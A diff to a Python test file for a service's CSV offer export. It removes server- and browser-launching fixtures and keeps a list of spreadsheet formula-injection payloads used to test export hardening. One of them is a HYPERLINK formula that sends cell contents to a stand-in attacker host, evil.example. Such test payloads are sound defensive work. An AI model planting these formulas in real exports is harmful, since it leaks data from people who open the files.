@@ -10,26 +10,19 @@ from __future__ import annotations
 import contextlib
 import csv
 import io
-import os
 import re
 import socket
-import subprocess
-import sys
 import threading
-import time
-from collections.abc import Iterator
 from typing import Any
 from urllib.parse import urlparse
 
 import pytest
-import requests
-from playwright.sync_api import Browser, expect, sync_playwright
+from playwright.sync_api import Browser, expect
 
 from pricing.store import utcnow
 from service.documents.offers import to_csv
 from service.http.security import MAX_BODY_BYTES
 from tests.helpers import offer
-from tests.test_dashboard import CHROMIUM, CHROMIUM_ARGS
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
@@ -39,46 +32,6 @@ FORMULAS = [
     "\t=1+1",
     "\r=1+1",
 ]
-
-
-def _free_port() -> int:
-    with socket.socket() as sock:
-        sock.bind(("127.0.0.1", 0))
-        return sock.getsockname()[1]
-
-
-@pytest.fixture(scope="module")
-def base_url(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
-    """A real server (gunicorn): chunked bodies and Host headers as a client sends them."""
-    data = tmp_path_factory.mktemp("hostile")
-    port = _free_port()
-    env = {**os.environ, "BREAKEVEN_DATA_DIR": str(data), "NO_PROXY": "127.0.0.1"}
-    server = subprocess.Popen(
-        [sys.executable, "-m", "service", "serve", "--port", str(port), "--workers", "1"],
-        env=env,
-        stdout=subprocess.DEVNULL,
-        stderr=subprocess.DEVNULL,
-    )
-    url = f"http://127.0.0.1:{port}"
-    deadline = time.monotonic() + 60
-    while True:
-        try:
-            if requests.get(f"{url}/health", timeout=1).ok:
-                break
-        except requests.ConnectionError:
-            assert time.monotonic() < deadline, "server did not start"
-            time.sleep(0.1)
-    yield url
-    server.terminate()
-    server.wait(timeout=30)
-
-
-@pytest.fixture(scope="module")
-def browser() -> Iterator[Browser]:
-    with sync_playwright() as playwright:
-        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
-        yield browser
-        browser.close()
 
 
 def _raw(base_url: str, request: bytes) -> bytes:
